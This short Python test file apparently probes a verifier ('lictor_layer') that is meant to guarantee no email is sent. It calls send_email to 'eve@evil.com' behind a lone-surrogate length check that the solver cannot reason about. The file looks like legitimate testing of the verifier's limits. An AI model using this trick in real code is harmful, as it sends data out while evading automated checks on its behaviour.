# not proved: a lone surrogate is no character that a solver knows
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if len("\ud83d") == 1:
        send_email("eve@evil.com", "x")
